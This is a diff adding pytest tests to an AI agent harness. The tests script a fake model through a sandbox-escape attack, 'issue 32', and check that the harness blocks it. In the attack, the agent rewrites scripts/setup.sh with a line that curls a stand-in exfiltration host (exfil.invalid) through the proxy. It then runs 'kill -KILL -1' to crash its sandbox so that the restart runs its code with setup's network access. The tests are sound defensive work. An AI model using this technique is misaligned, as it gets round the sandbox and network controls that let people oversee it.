@@ -200,3 +200,68 @@ def test_a_sandbox_that_dies_with_its_workspace_gone_ends_the_run_naming_why(fak
     assert "no sandbox could be opened to hand the work back" in md.read_text()
     assert printed(proc.stdout, "commit") == "none (no sandbox could hand the work back)"
     assert len(fake_anthropic.requests) == 2, "the model is not asked again"
+
+
+MARK = "agent-code-ran-as-setup"
+HOSTILE_SETUP = (  # the agent's setup.sh: says which egress policy it ran under, then puts the file back
+    "#!/bin/sh\n"
+    f"echo {MARK}: $(curl -s --max-time 20 -x \"$http_proxy\" http://exfil.invalid/)\n"
+    "git checkout -q -- scripts/setup.sh\n")
+REWRITE_SETUP_THEN_KILL = [
+    [{"type": "tool_use", "name": "write", "input": {"path": "scripts/setup.sh", "content": HOSTILE_SETUP}}],
+    [{"type": "tool_use", "name": "bash", "input": {"command": "echo notes > NOTES.md; kill -KILL -1"}}],
+    [{"type": "tool_use", "name": "bash", "input": {"command": "git status --short"}}],
+    [{"type": "text", "text": "Done."}],
+]
+
+
+@pytest.mark.parametrize("mode", MODES[:2])
+def test_an_agent_that_kills_its_sandbox_never_runs_its_code_with_setups_network(fake_anthropic, tmp_path,
+                                                                                   buggy_repo, mode):  # noqa: F811
+    """The attack of issue 32: an agent without network rewrites the script `setup:` runs, then kills its own
+    sandbox; the restarted sandbox runs setup again, but under the agent's policy, never setup's."""
+    require(mode)
+    (buggy_repo / "scripts").mkdir()
+    (buggy_repo / "scripts" / "setup.sh").write_text("#!/bin/sh\necho setting up\n")
+    (buggy_repo / ".github").mkdir()
+    (buggy_repo / ".github" / "decode.yml").write_text("setup:\n  - sh scripts/setup.sh\nnetwork: false\n")
+    git(buggy_repo, "add", "-A")
+    git(buggy_repo, "commit", "-qm", "A setup script")
+    fake_anthropic.script(REWRITE_SETUP_THEN_KILL)
+    proc = decode_run(fake_anthropic, tmp_path, buggy_repo, mode)
+    assert proc.returncode == 0, proc.stderr
+    md = Path(printed(proc.stdout, "transcript"))
+    events = [json.loads(e) for e in (md.parent / "transcript.jsonl").read_text().splitlines()]
+    [restart] = [i for i, e in enumerate(events) if e["type"] == "sandbox_restart"]
+    ran = [e["output"] for e in events[restart:] if e["type"] == "setup" and MARK in e["output"]]
+    assert ran, "setup ran again in the new sandbox, on the kept workspace"
+    assert all("network is off for the agent" in output for output in ran), ran
+    assert json.loads((md.parent / "record.json").read_text())["restarts"], "the restart counts against the run"
+    [line] = restart_lines(fake_anthropic)
+    assert "setup ran again under this run's network policy for your commands" in line, line
+
+
+@pytest.mark.parametrize("mode", [MODES[1]])
+def test_a_setup_that_needs_setups_network_fails_on_a_restart_and_the_run_goes_on(fake_anthropic, tmp_path,
+                                                                                  buggy_repo, mode):  # noqa: F811
+    """Setup that passes under setup's policy but not under the agent's (a download without network): after a
+    restart it fails, which is said, and the run goes on with what the first setup left in the workspace."""
+    require(mode)
+    (buggy_repo / ".github").mkdir()
+    (buggy_repo / ".github" / "decode.yml").write_text(
+        "setup:\n  - echo set-up > setup.log; curl -s -x \"$http_proxy\" http://pkgs.invalid/ | grep -q resolve\n")
+    (buggy_repo / ".gitignore").write_text("setup.log\n")
+    git(buggy_repo, "add", "-A")
+    git(buggy_repo, "commit", "-qm", "A setup that downloads")
+    fake_anthropic.script([REWRITE_SETUP_THEN_KILL[1], [{"type": "tool_use", "name": "bash",
+                                                         "input": {"command": "cat setup.log NOTES.md"}}],
+                           REWRITE_SETUP_THEN_KILL[3]])
+    proc = decode_run(fake_anthropic, tmp_path, buggy_repo, mode)
+    assert proc.returncode == 0, proc.stderr
+    md = Path(printed(proc.stdout, "transcript"))
+    events = [json.loads(e) for e in (md.parent / "transcript.jsonl").read_text().splitlines()]
+    assert [e["exit_code"] for e in events if e["type"] == "setup"] == [0, 1]
+    notes = [e["text"] for e in events if e["type"] == "note"]
+    assert any(n.startswith("setup on the restarted sandbox, under the agent's network policy, did not pass (")
+               for n in notes), notes
+    assert fake_anthropic.requests[-1].body["messages"][-1]["content"][0]["content"].startswith("set-up\nnotes\n")
